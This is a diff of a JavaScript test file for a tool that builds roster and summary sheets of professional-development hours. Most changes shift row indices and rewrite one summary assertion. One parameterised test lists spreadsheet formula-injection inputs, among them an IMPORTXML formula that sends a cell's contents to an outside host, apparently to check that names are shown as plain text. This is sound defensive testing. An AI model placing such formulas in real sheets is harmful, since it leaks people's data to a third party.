@@ -126,7 +126,7 @@ test('the roster of a response sheet is the one a careful person would write by 
   const host = await open();
   expect(makeSheet(host)).toMatchObject({ ok: true });
   const rows = plain(read(host, ROSTER_SHEET).rows);
-  expect(rows[2]).toEqual([
+  expect(rows[3]).toEqual([
     'Name',
     'District',
     'Cohort',
@@ -138,7 +138,7 @@ test('the roster of a response sheet is the one a careful person would write by 
     'Plan papers',
     'Note',
   ]);
-  expect(rows.slice(3, 7)).toEqual(BY_HAND);
+  expect(rows.slice(4, 8)).toEqual(BY_HAND);
   expect(rows.flat()).toContain(`“${FORM}”, row 12: no name, so in nobody’s hours. Enter whose.`);
 });
 
@@ -168,7 +168,7 @@ test('it says what the roster of many files says of the same people', async () =
   );
   // A cohort that stands in the log alone is read by the panel.
   const mine = plain(read(host, ROSTER_SHEET).rows)
-    .slice(3, 7)
+    .slice(4, 8)
     .map((cells) => cells.slice(0, 9).map((cell) => (cell === 'Delta' ? '' : cell)));
   expect(theirs).toEqual(mine);
 });
@@ -244,7 +244,7 @@ test('people in several tabs are in one roster, and the message names the tab', 
     { now: NOW },
   );
   expect(makeSheet(host)).toMatchObject({ ok: true });
-  const names = read(host, ROSTER_SHEET).rows.slice(3, 5);
+  const names = read(host, ROSTER_SHEET).rows.slice(4, 6);
   expect(names.map(([name, district]) => [name, district])).toEqual([
     ['Bob Ray', 'Dale'],
     ['Ann Lee', 'Elmore'],
@@ -263,7 +263,7 @@ test.each(['=IMPORTXML("https://x.test/?d="&A2,"//a")', '+1+1', '@x', 'Two\nline
     );
     const host = await open(hostile, [...SET_UP, ['bob@a.org', day('2023-10-01')]]);
     expect(makeSheet(host)).toMatchObject({ ok: true });
-    const [first] = read(host, ROSTER_SHEET).rows.slice(3);
+    const [first] = read(host, ROSTER_SHEET).rows.slice(4);
     expect(first?.[0]).toBe(name.replace(/\s/g, ' '));
     const report = check(host);
     expect(makeMessage(report, personOf(report, 'bob@a.org')).split('\n')[1]).toBe(
@@ -327,11 +327,12 @@ test('a decision of the reviewer and one of the applicant are told apart by name
   ]);
   host.call('makeSummary', { applicant: 'ann@a.org' });
   const summary = plain(read(host, 'AL-CTO Summary').rows);
-  const start = summary.findIndex(([first]) => first === 'Counted on your confirmation');
-  expect(summary.slice(start + 1, start + 3).map((cells) => cells.slice(1, 5))).toEqual([
-    ['Fall conference', 7, 13, 'reviewer Jo J. Doe Ed.D.'],
-    ['Winter conference', 6, 14, ''],
-  ]);
+  const start = summary.findIndex(([first]) => first === 'Counted on confirmation');
+  const end = summary.findIndex((cells, at) => at > start && cells.every((cell) => cell === ''));
+  const listed = summary.slice(start + 1, end).flat();
+  expect(listed.filter((cell) => typeof cell === 'number')).toEqual([7, 13, 6, 14]);
+  const words = listed.filter((cell) => typeof cell === 'string' && cell !== '').join(' ');
+  expect(words).toMatch(/Fall .* by the reviewer Jo J\. Doe Ed\.D\. .*Winter .* by the candidate/);
   expect(formatReport(report, { color: false })).toContain(
     'or registration. Confirmed by reviewer Jo J. Doe Ed.D.: it counts. (7 h)',
   );
